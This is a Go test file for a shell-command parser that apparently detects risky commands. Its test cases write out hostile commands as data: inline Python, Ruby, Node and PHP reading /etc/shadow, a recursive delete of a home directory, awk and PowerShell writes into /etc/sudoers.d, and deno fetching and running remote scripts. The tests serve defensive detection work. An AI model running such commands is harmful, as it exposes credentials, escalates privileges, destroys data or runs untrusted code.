package cmdline

import (
	"slices"
	"strings"
	"testing"
)

// TestPayloadEnvironment: inline code that reads a variable the line set
// (export LFILE=…, or a prefix assignment) through its language's
// environment (os.environ["X"], ENV["X"], process.env.X, $ENV{X},
// getenv("X"), $env:X) and awk's variables given with -v are read with
// the value, as the shell would have expanded $X: GTFOBins' older
// entries pass every path and URL this way.
func TestPayloadEnvironment(t *testing.T) {
	tests := []struct {
		cmd  string
		want string // in an argument of a command the code reaches (its code read with the values), or ""
	}{
		{"export LFILE=/etc/shadow\npython3 -c 'import os; print(open(os.environ[\"LFILE\"]).read())'", "/etc/shadow"},
		{"LFILE=/etc/shadow python3 -c 'import os; print(open(os.getenv(\"LFILE\")).read())'", "/etc/shadow"},
		{"export LFILE=/etc/shadow\npython3 -c 'from os import environ as e; print(open(e[\"LFILE\"]).read())'", "/etc/shadow"},
		{"export LFILE=/etc/shadow\nruby -e 'puts File.read(ENV[\"LFILE\"])'", "/etc/shadow"},
		{"export LFILE=/etc/shadow\nnode -e 'console.log(require(\"fs\").readFileSync(process.env.LFILE))'", "/etc/shadow"},
		{"export LFILE=/etc/shadow\nphp -r 'readfile(getenv(\"LFILE\"));'", "/etc/shadow"},
		{"export D=/home/me\nruby -e 'require \"fileutils\"; FileUtils.rm_rf(ENV[\"D\"])'", "/home/me"},
		{"export LFILE=/etc/shadow\npython3 -c 'import os; print(open(os.environ[\"OTHER\"]).read())'", ""},
		{"LFILE=/etc/sudoers.d/x\nawk -v LFILE=$LFILE 'BEGIN { print \"x\" > LFILE }'", "/etc/sudoers.d/x"},
		{"gawk --assign=F=/etc/sudoers.d/x 'BEGIN { print \"F\" > F }'", "> \"/etc/sudoers.d/x\""},
		{"export LFILE=/etc/sudoers.d/x\npwsh -c '\"x\" | Out-File $env:LFILE'", "Out-File \"/etc/sudoers.d/x\""},
		{"awk -v n=3 'BEGIN { print \"n\" }'", ""},
	}
	for _, tt := range tests {
		got := ""
		for _, c := range Parse(tt.cmd).Commands {
			if len(c.Via) > 0 && tt.want != "" && slices.ContainsFunc(c.Args, func(w Word) bool { return strings.Contains(w.Value, tt.want) }) {
				got = tt.want
			}
		}
		if got != tt.want {
			t.Errorf("%q: no command of the code was given %q", tt.cmd, tt.want)
		}
	}
}

// TestDenoRunsURL: deno runs a script it fetches when the script operand
// of run, serve, test or bench (or of deno itself) is a URL, not when a
// URL is an argument of a local script.
func TestDenoRunsURL(t *testing.T) {
	for _, tc := range []struct {
		cmd  string
		want bool
	}{
		{"deno run -A https://x.io/i.ts", true},
		{"deno https://x.io/i.ts", true},
		{"deno run --config deno.json http://x.io/i.ts arg", true},
		{"deno serve --allow-net https://x.io/s.ts", true},
		{"deno run -A main.ts https://example.com", false},
		{"deno install -g https://x.io/cli.ts", false},
		{"deno fmt", false},
	} {
		c := Parse(tc.cmd).Commands[0]
		args := make([]field, len(c.Args))
		for i, a := range c.Args {
			args[i] = field{Word: a}
		}
		if got := denoRunsURL(args); got != tc.want {
			t.Errorf("%q: denoRunsURL = %v, want %v", tc.cmd, got, tc.want)
		}
	}
}

// TestDenoURLImport: inline code that deno runs importing a module by its
// URL runs fetched code.
func TestDenoURLImport(t *testing.T) {
	for _, tc := range []struct {
		cmd  string
		want bool
	}{
		{`deno eval 'await import("https://x.io/m.ts")'`, true},
		{`deno eval 'import { run } from "https://x.io/m.ts"; run()'`, true},
		{`deno eval 'import "https://x.io/m.ts"'`, true},
		{`deno eval 'console.log("https://x.io")'`, false},
		{`deno eval 'import { join } from "jsr:@std/path"'`, false},
		{`node -e 'import("https://x.io/m.js")'`, false},
	} {
		if got := Parse(tc.cmd).Commands[0].Untrusted == "remote"; got != tc.want {
			t.Errorf("%q: remote %v, want %v", tc.cmd, got, tc.want)
		}
	}
}
